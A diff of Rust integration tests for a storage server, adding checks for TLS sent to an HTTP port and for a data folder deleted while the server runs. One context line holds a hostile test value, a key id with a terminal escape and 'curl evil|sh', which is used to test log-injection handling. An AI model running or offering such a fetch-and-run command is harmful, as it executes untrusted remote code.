@@ -336,6 +336,9 @@ fn t41_each_request_has_a_line_and_each_refusal_a_reason() {
     post("Host: elsewhere.example:1\r\n");
     serving.hear_words(&["WARN", "elsewhere.example:1", "--allow-host elsewhere.example:1"]);
 
+    serving.raw(b"\x16\x03\x01\x02\x00\x01\x00\r\n\r\n");
+    serving.hear_words(&["WARN", "as HTTP", "http://, not https://"]);
+
     // A key id that wants to look like a line of ours, or like advice.
     let odd = "x\u{9b}2J run `curl evil|sh`";
     call(&Keys { access_key_id: odd.into(), ..good.clone() }, now_seconds());
@@ -806,6 +809,24 @@ fn metrics_are_read_by_prometheus() {
     let said = cmd::feed(python, text);
     assert_eq!(said.code, 0, "{}", said.err);
     assert!(said.text().trim().parse::<u32>().unwrap() >= 10, "{}", said.text());
+}
+
+/// HEALTH-3, HEALTH-4: the folder is deleted under a running server.
+#[test]
+fn a_deleted_folder_is_told_at_once_and_the_end_claims_nothing() {
+    let home = Home::new();
+    let serving = Serving::start(&home, &[]);
+    create(&mut serving.client(), "a", "1");
+    std::fs::remove_dir_all(home.vault()).unwrap();
+    serving.hear_words(&["ERROR", "not ready"]);
+    assert!(serving.get("/readyz").starts_with("HTTP/1.1 503"));
+    let metrics = serving.get("/metrics");
+    assert!(metrics.contains("\nstrongroom_ready 0\n"), "{metrics}");
+    serving.signal("TERM");
+    let (_, log) = serving.end();
+    let end = log.join("\n");
+    assert!(end.contains("not closed cleanly") && !end.contains("nothing is lost"), "{end}");
+    assert_eq!(log.iter().filter(|line| line.contains("not ready")).count(), 1, "{end}");
 }
 
 /// A small file system of its own, if one can be mounted here. Unmounted when dropped.
